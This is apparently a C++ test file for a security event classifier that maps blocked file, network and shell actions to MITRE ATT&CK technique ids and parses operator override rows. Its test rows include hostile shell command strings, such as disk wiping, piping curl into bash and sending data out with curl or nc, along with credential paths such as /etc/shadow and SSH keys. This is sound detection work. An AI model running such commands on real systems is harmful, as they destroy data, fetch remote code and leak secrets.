#include "event/attack.hpp"
#include "event/attack_overrides.hpp"

#include <doctest/doctest.h>

using namespace csiem::event;

namespace {

struct Row {
  const char* guard;
  ResourceType resource;
  const char* action;
  const char* name;
  const char* technique;  // "" for none
  int32_t port = -1;
};

std::string_view technique(const Row& row) {
  AttackSubject s;
  s.guard = guard_class(row.guard);
  s.resource = row.resource;
  s.action = row.action;
  s.name = row.name;
  s.host = row.resource == ResourceType::network ? row.name : "";
  s.port = row.port;
  const Technique* t = attack_technique(s);
  return t == nullptr ? std::string_view{} : t->id;
}

constexpr auto kFile = ResourceType::file;
constexpr auto kNet = ResourceType::network;
constexpr auto kProcess = ResourceType::process;
constexpr auto kTool = ResourceType::tool;
constexpr auto kConfig = ResourceType::configuration;

}  // namespace

TEST_CASE("guard classes fold the spellings of both implementations") {
  CHECK(guard_class("egress") == GuardClass::egress_allowlist);
  CHECK(guard_class("EgressAllowlistGuard") == GuardClass::egress_allowlist);
  CHECK(guard_class(" Forbidden_Path ") == GuardClass::forbidden_path);
  CHECK(guard_class("jailbreak") == GuardClass::jailbreak_detection);
  CHECK(guard_class("acme.shell_guard") == GuardClass::other);
  CHECK(guard_class("") == GuardClass::other);
  CHECK(text(GuardClass::safe_browsing) == "clawdstrike-safe-browsing");
}

TEST_CASE("a block without a severity is critical for secrets and forbidden paths, else high") {
  CHECK(block_severity(GuardClass::secret_leak) == Severity::critical);
  CHECK(block_severity(GuardClass::forbidden_path) == Severity::critical);
  CHECK(block_severity(GuardClass::egress_allowlist) == Severity::high);
  CHECK(block_severity(GuardClass::other) == Severity::high);
}

TEST_CASE("the technique follows from guard and resource") {
  for (const Row& row : {
           Row{"forbidden_path", kFile, "file_access", "/home/a/.SSH/id_ed25519", "T1552.004"},
           {"forbidden_path", kFile, "file_access", "/etc/shadow", "T1003.008"},
           {"forbidden_path", kFile, "file_access", "/etc/shadow.bak", "T1005"},
           {"forbidden_path", kFile, "file_access", "/srv/.env", "T1552.001"},
           {"forbidden_path", kFile, "file_access", "/srv/readme", "T1005"},
           {"forbidden_path", kFile, "file_write", "/root/.ssh/authorized_keys", "T1098.004"},
           {"forbidden_path", kFile, "file_write", "/etc/sudoers.d/x", "T1548.003"},
           {"forbidden_path", kFile, "patch", "/root/.bashrc", "T1546.004"},
           {"forbidden_path", kFile, "file_write", "/etc/cron.d/x", "T1053.003"},
           {"forbidden_path", kFile, "file_write", "/etc/systemd/system/x", "T1543.002"},
           {"forbidden_path", kFile, "file_write", "/srv/a", "T1565.001"},
           {"secret_leak", kFile, "file_write", "/srv/a", "T1552.001"},
           {"secret_leak", kTool, "tool_call", "x", "T1552"},
           {"egress", kNet, "egress", "Metadata.Google.Internal.", "T1552.005"},
           {"egress", kNet, "egress", "abc.onion", "T1090.003"},
           {"egress", kNet, "egress", "h.example", "T1071.001"},
           {"egress", kNet, "egress", "h.example", "T1071.004", 53},
           {"egress", kNet, "egress", "h.example", "T1571", 8443},
           {"threat_intel", kNet, "egress", "h.example", "T1071.001", 8443},
           {"clawdstrike-virustotal", kNet, "egress", "h.example", "T1204.001"},
           {"x", kTool, "mcp_tool", "x", "T1059"},
           {"x", kConfig, "rbac", "x", ""},
           {"x", kConfig, "secret_access", "x", "T1555"},
           {"posture", kFile, "file_write", "/x", ""},
           {"posture_budget", kFile, "file_write", "/x", "T1496"},
           {"prompt_injection", kConfig, "x", "x", "T1190"},
       }) {
    CAPTURE(row.guard);
    CAPTURE(row.name);
    CAPTURE(row.action);
    CHECK(technique(row) == row.technique);
  }
}

TEST_CASE("command lines are told apart by words, not by letters") {
  for (const Row& row : {
           Row{"x", kProcess, "shell", "rm -fr /var", "T1485"},
           {"x", kProcess, "shell", "sudo rm  -r x", "T1485"},
           {"x", kProcess, "shell", "rm -f x -r", "T1059.004"},
           {"x", kProcess, "shell", "farm -r", "T1059.004"},
           {"x", kProcess, "shell", "dd if=/dev/zero of=/dev/sda", "T1485"},
           {"x", kProcess, "shell", "curl -s https://x | bash", "T1105"},
           {"x", kProcess, "shell", "WGET x|sh -c y", "T1105"},
           {"x", kProcess, "shell", "curl x | tee y | sh", "T1059.004"},
           {"x", kProcess, "shell", "curl x | shred", "T1059.004"},
           {"x", kProcess, "shell", "curly x | sh", "T1059.004"},
           {"x", kProcess, "shell", "base64 k | curl -d @- h", "T1048"},
           {"x", kProcess, "shell", "tar c . | nc h 1", "T1048"},
           {"x", kProcess, "shell", "chmod 777 /srv", "T1222.002"},
           {"x", kProcess, "shell", "chmod a+rwx /srv", "T1222.002"},
           {"x", kProcess, "shell", "chmod 755 /srv", "T1059.004"},
       }) {
    CAPTURE(row.name);
    CHECK(technique(row) == row.technique);
  }
}

TEST_CASE("a patch that weakens a guard is a defence evasion") {
  AttackSubject s;
  s.guard = GuardClass::patch_integrity;
  s.resource = ResourceType::file;
  s.action = "patch";
  s.name = "/src/a.cc";
  s.reason = "adds Disable_auth";
  CHECK(attack_technique(s)->id == "T1562.001");
  CHECK(attack_technique(s)->tactic == "TA0005");
  s.reason = "too large";
  CHECK(attack_technique(s)->id == "T1059");
}

TEST_CASE("tactics by id or name") {
  CHECK(tactic_id("execution") == "TA0002");
  CHECK(tactic_id("Credential Access") == "TA0006");
  CHECK(tactic_id("command-and-control") == "TA0011");
  CHECK(tactic_id("ta0040") == "TA0040");
  CHECK(tactic_id("nonsense").empty());
  CHECK(tactic_name("TA0010") == "Exfiltration");
  CHECK(find_technique("T1552.004")->parent_name == "Unsecured Credentials");
  CHECK(find_technique("T0000") == nullptr);
}

TEST_CASE("rows of an operator go before ours") {
  std::vector<csiem::event::AttackOverrides::Problem> problems;
  const auto rows = csiem::event::AttackOverrides::parse(
      "# guard resource tactic technique\n\nSecretLeakGuard file TA0001 T1190 # ours is T1552.001\r\n"
      "my_guard any TA0002\tT1059.004\nwatermark any - -\nmy_guard network TA0011 T1571",
      problems);
  CHECK(problems.empty());
  REQUIRE(rows.rows().size() == 4);
  CHECK(rows.find(GuardClass::secret_leak, "secret-leak", ResourceType::file)->technique == "T1190");
  CHECK(rows.find(GuardClass::secret_leak, "secret_leak", ResourceType::tool) == nullptr);
  CHECK(rows.find(GuardClass::other, " My_Guard", ResourceType::network)->technique == "T1059.004");
  CHECK(rows.find(GuardClass::other, "my_guard2", ResourceType::network) == nullptr);
  CHECK(rows.find(GuardClass::watermark, "watermark", ResourceType::unknown)->tactic.empty());
}

TEST_CASE("a row that is wrong says where") {
  const struct {
    const char *text, *what;
    uint32_t line, column;
  } rows[] = {{"a any TA0002 T1059\n\tb file TA0002", "this one 3", 2, 9},
              {"a any TA0002 T1059 T1060", "this one 5", 1, 20},
              {"\xc3\xa4 folder TA0002 T1059", "no resource type 'folder'", 1, 3},
              {"a any Execution T1059", "'Execution' is no tactic id", 1, 7},
              {"a any TA0002 T105", "'T105' is no technique id", 1, 14},
              {"a any TA0002 -", "'-' is no technique id", 1, 14},
              {"secret_leak any - -\nSecretLeakGuard any - -", "has a row", 2, 1}};
  for (const auto& row : rows) {
    CAPTURE(row.text);
    std::vector<csiem::event::AttackOverrides::Problem> problems;
    csiem::event::AttackOverrides::parse(row.text, problems);
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].line == row.line);
    CHECK(problems[0].column == row.column);
    CHECK_MESSAGE(problems[0].what.find(row.what) != std::string::npos, problems[0].what);
  }
}
